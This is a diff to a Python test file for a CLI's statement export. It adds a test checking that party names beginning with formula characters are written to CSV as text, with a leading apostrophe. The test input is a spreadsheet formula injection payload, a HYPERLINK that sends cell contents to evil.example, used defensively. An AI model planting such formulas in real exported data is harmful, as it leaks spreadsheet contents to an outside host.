@@ -13,8 +13,9 @@ from typing import Any
 import pytest
 from charter import Client
 from charter.cli._app import app
-from charter.cli.statements import CSV_COLUMNS
+from charter.cli.statements import CSV_COLUMNS, statement_csv
 from charter.usage import usage_key
+from charter.v1 import usage_pb2
 from sdk._live import USE, Live, Party, new_party  # tests/ is on sys.path: pytest's rootdir-relative layout
 from typer.testing import CliRunner, Result
 
@@ -241,6 +242,22 @@ def test_statements_show_prints_names_lines_and_totals_and_csv_matches_the_state
         character_name,
         licensee_name,
     )
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_statement_csv_writes_names_that_start_like_formulas_as_text(start: str) -> None:
+    """Names are the other party's choice (a character named ``=HYPERLINK(...)``): each such cell
+    gets a leading apostrophe, as in the console's CSV; amounts stay numbers."""
+    name = f'{start}HYPERLINK("https://evil.example/?leak="&A2,"Aoi")'
+    line = usage_pb2.StatementLine(
+        character_id="chr_1", character_name=name, licensee_id="lic_1", licensee_display_name=name, owed_minor_units=-5
+    )
+    statement = usage_pb2.Statement(rights_holder_id="rh_1", rights_holder_display_name=name, lines=[line])
+
+    (row,) = csv.DictReader(io.StringIO(statement_csv(statement)))
+
+    assert [row[c] for c in ("rights_holder_name", "character_name", "licensee_name")] == ["'" + name] * 3
+    assert (row["character_id"], row["owed_minor_units"]) == ("chr_1", "-5")
 
 
 def test_statements_show_a_date_range(runner: ReadableRunner, live: Live, party: Party) -> None:
